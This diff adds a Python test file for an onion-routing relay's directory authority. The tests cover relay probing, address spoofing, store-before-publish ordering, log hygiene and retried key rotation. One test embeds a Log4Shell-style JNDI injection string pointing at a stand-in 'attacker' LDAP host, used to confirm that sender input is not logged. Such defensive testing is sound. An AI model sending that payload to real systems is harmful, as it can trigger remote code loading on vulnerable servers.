@@ -1,0 +1,166 @@
+"""A running authority: what it dials, stores and logs."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+import trio
+from structlog.testing import capture_logs
+from trio.testing import MockClock
+
+from onionpath.crypto.identity import IdentityKey
+from onionpath.directory.address import Address
+from onionpath.directory.descriptor import Descriptor, sign_descriptor
+from onionpath.directory.trust import Authority as Signer
+from onionpath.directory.trust import TrustRoot
+from onionpath.errors import KeyFileError, MalformedError, OnionPathError, RefusedError
+from onionpath.link.tls import client_context
+from onionpath.service.directory import DirectoryService
+from relay.authority import running
+from relay.authority.probing import Prober
+from relay.authority.running import RunningAuthority, reason_of
+from relay.authority.signing import Authority
+from relay.key_keeper import ROTATION_RETRY_S, KeyKeeper
+from relay.keys import KeySchedule, PacketKeyFiles
+from tests.relay.nodes import NETWORK_ID, PARAMETERS, PERIOD_S, Node, clock, until
+
+IDENTITY = IdentityKey(bytes(range(1, 33)))
+ROOT = TrustRoot(
+    NETWORK_ID, "test", (Signer(IDENTITY.public, Address("127.9.0.1", 9), bytes(32)),), 1, PARAMETERS
+)
+
+
+class Published:
+    """A running authority, and the directory that it hands out."""
+
+    def __init__(self, *, relays: int, store: Callable[[bytes], None] = lambda state: None) -> None:
+        authority = Authority(
+            identity=IDENTITY,
+            root=ROOT,
+            parameters=PARAMETERS,
+            period_s=PERIOD_S,
+            first_document_relays=relays,
+            private_addresses=True,
+            probes=True,
+        )
+        prober = Prober(authority, PARAMETERS.geometry, context=client_context(), clock=clock)
+        self.authority = authority
+        self.running = RunningAuthority(authority, prober, store=store, clock=clock)
+        self.directory = DirectoryService()
+
+    def collect(self, node: Node, descriptor: Descriptor | None = None) -> None:
+        self.running.collect(sign_descriptor(descriptor or node.describe(), node.identity))
+
+
+async def test_a_relay_that_answers_is_listed_and_one_that_does_not_is_forgotten(tmp_path: Path) -> None:
+    """Relays that don't exist would otherwise be on everybody's paths."""
+    here, gone = Node(tmp_path / "here"), Node(tmp_path / "gone")
+    gone.close()
+    published = Published(relays=1)
+    async with trio.open_nursery() as nursery:
+        await nursery.start(here.serve)
+        nursery.start_soon(published.running.run, published.directory)
+        published.collect(gone)
+        published.collect(here)
+        await until(lambda: published.directory.publication)
+        await until(lambda: len(published.authority._roll) == 1)
+        nursery.cancel_scope.cancel()
+
+    assert published.authority.directory is not None
+    assert [here.relay_id] == list(published.authority.directory.relays)
+
+
+async def test_a_relay_whose_address_is_somebody_elses_is_not_listed(tmp_path: Path) -> None:
+    honest, liar = Node(tmp_path / "honest"), Node(tmp_path / "liar")
+    liar.close()
+    liar.port = honest.port
+    published = Published(relays=1)
+    async with trio.open_nursery() as nursery:
+        await nursery.start(honest.serve)
+        nursery.start_soon(published.running.run, published.directory)
+        published.collect(liar)
+        await until(lambda: len(published.authority._roll) == 0)
+        # And its place is free for whoever really is there.
+        published.collect(honest)
+        await until(lambda: published.directory.publication)
+        nursery.cancel_scope.cancel()
+
+    assert published.authority.directory is not None
+    assert [honest.relay_id] == list(published.authority.directory.relays)
+
+
+async def test_no_document_is_published_before_it_is_stored(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Otherwise a restart after a full disk signs another document of the same number."""
+    node, refusals = Node(tmp_path / "node"), 0
+    full = True
+
+    def store(state: bytes) -> None:
+        nonlocal refusals
+        if full:
+            refusals += 1
+            raise KeyFileError("signer: no space left", file="signer")
+
+    monkeypatch.setattr(running, "STORE_RETRY_S", 0.01)
+    published = Published(relays=1, store=store)
+    with capture_logs() as logs:
+        async with trio.open_nursery() as nursery:
+            await nursery.start(node.serve)
+            nursery.start_soon(published.running.run, published.directory)
+            published.collect(node)
+            await until(lambda: refusals > 2)
+            assert published.directory.publication is None
+            full = False
+            await until(lambda: published.directory.publication)
+            nursery.cancel_scope.cancel()
+
+    assert {"document_not_stored", "document_signed"} <= {line["event"] for line in logs}
+
+
+def test_what_a_sender_wrote_is_not_logged() -> None:
+    published, secret = Published(relays=1), "log4j ${jndi:ldap://attacker}"
+    with capture_logs() as logs, pytest.raises(OnionPathError):
+        published.running.collect(secret.encode())
+
+    assert [{"event": "descriptor_refused", "reason": "malformed", "log_level": "warning"}] == logs
+    assert "other" == reason_of(RefusedError(secret, reason=secret))
+    assert "malformed" == reason_of(MalformedError(secret))
+
+
+def test_a_rotation_that_the_disk_refused_is_tried_again_soon(tmp_path: Path) -> None:
+    """It waited for a slot, five minutes, and longer wherever slots are longer."""
+    node, now = Node(tmp_path / "node"), clock()
+    files = PacketKeyFiles(
+        node.folder / "state", KeySchedule(PARAMETERS.epoch_s, PARAMETERS.slot_s), entropy=os.urandom
+    )
+    keeper = KeyKeeper(
+        node.switch,
+        files,
+        node.replay,
+        relay_id=node.relay_id,
+        changed=lambda: None,
+        clock=lambda: now,
+    )
+    # In the way of the new key, as a full disk is, and also for a test that runs as root.
+    epoch = files.keys.schedule.epoch(now)
+    obstacle = node.folder / "state" / "packet-keys" / f".{epoch}.key.new"
+    obstacle.mkdir()
+
+    async def keep(seconds: float) -> None:
+        with trio.move_on_after(seconds):
+            await keeper.run()
+
+    with capture_logs() as logs:
+        trio.run(keep, 2.5 * ROTATION_RETRY_S, clock=MockClock(autojump_threshold=0))
+    assert 3 == len([line for line in logs if line["event"] == "packet_keys_not_rotated"])
+    assert {} == files.keys.by_epoch
+
+    obstacle.rmdir()
+    trio.run(keep, 1.0, clock=MockClock(autojump_threshold=0))
+    node.close()
+
+    assert {epoch, epoch + 1} == set(files.keys.by_epoch)
